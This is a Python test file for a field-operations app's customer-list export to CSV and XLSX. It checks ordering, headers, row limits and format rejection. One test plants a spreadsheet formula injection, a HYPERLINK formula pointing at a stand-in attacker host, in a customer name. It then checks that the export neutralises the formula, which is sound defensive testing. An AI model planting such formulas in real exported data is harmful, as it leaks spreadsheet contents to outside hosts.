"""A list as a sheet: the whole list, with what people wrote as text."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import httpx
import openpyxl
import pytest
from asking import open_client
from builders import a_customer, register_network
from grounds import grounds
from network_api import API, Staff, staff, the_app

from fieldops.actions import orders
from fieldops.database.door import perform
from fieldops.web import lists

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"查看")'


async def lay_out() -> Staff:
    await register_network()
    await perform(
        orders.register_customers,
        [a_customer(code=f"C{n:03d}", name=FORMULA if n == 1 else "王芳") for n in range(60)],
    )
    return await staff()


someone = grounds(lay_out)


@pytest.fixture
async def client(someone: Staff) -> AsyncIterator[httpx.AsyncClient]:
    async with open_client(the_app(), someone) as client:
        yield client


async def test_a_sheet_holds_the_whole_filtered_list_in_its_order(client: httpx.AsyncClient) -> None:
    listed = await client.get(f"{API}/customers", params={"limit": 5})
    answer = await client.get(
        f"{API}/customers", params={"format": "csv", "ordering": "-code", "limit": 5, "offset": 3}
    )

    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) == listed.json()["count"] >= 60
    assert [row["code"] for row in rows] == sorted((row["code"] for row in rows), reverse=True)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == 'attachment; filename="customers-2026-11-23.csv"'
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"


async def test_what_a_person_wrote_is_no_formula_in_a_sheet(client: httpx.AsyncClient) -> None:
    written = (await client.get(f"{API}/customers?format=csv")).content.decode("utf-8-sig")
    book = await client.get(f"{API}/customers?format=xlsx")

    cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith("=")]
    sheet = openpyxl.load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    [found] = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert found.data_type == "s"


async def test_a_list_too_long_for_a_sheet_is_refused(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(lists, "MOST_IN_SHEET", 10)

    answer = await client.get(f"{API}/customers?format=xlsx")

    assert (answer.status_code, answer.json()["code"]) == (422, "too_many_for_sheet")


async def test_an_unknown_form_is_refused(client: httpx.AsyncClient) -> None:
    answer = await client.get(f"{API}/customers?format=pdf")

    assert (answer.status_code, answer.json()["errors"][0]["path"]) == (422, "format")
